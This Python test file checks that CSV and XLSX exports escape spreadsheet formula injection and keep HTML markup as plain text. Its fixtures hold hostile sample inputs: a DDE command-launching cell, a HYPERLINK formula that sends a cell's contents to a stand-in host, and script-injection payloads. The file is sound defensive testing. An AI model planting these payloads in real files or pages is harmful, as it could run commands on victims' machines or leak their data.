"""CSV and XLSX exports never hand a spreadsheet a formula (cells starting = + - @ tab CR), and keep markup as
plain text."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd

from layers.render import tables as snapshot

FORMULAS = ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
            '=HYPERLINK("http://x.example/?"&A1,"click")']
PLAIN = ["兰州市", "<img src=x onerror=alert(1)>", "</script><script>alert(2)</script>", "R&D 1 < 2"]


def frame() -> pd.DataFrame:
    texts = FORMULAS + PLAIN
    return pd.DataFrame({"名称": texts, "来源": list(reversed(texts)), "数值": [-5.0 + i for i in range(len(texts))]})


def test_csv_export_neutralises_formula_cells() -> None:
    rows = list(csv.reader(io.StringIO(snapshot.to_csv(frame()).decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert header == ["名称", "来源", "数值"]
    names = [r[0] for r in body]
    for sent, got in zip(FORMULAS + PLAIN, names, strict=True):
        if sent in FORMULAS:
            assert got == "'" + sent, (sent, got)  # a leading apostrophe: shown as text, never run
        else:
            assert got == sent  # markup stays literal text in a data file
    assert [float(r[2]) for r in body][:3] == [-5.0, -4.0, -3.0]  # negative numbers are numbers, untouched


def test_xlsx_export_holds_text_not_formulas() -> None:
    wb = openpyxl.load_workbook(io.BytesIO(snapshot.to_xlsx(frame())))
    cells = [c for row in wb.active.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "<img src=x onerror=alert(1)>" in texts
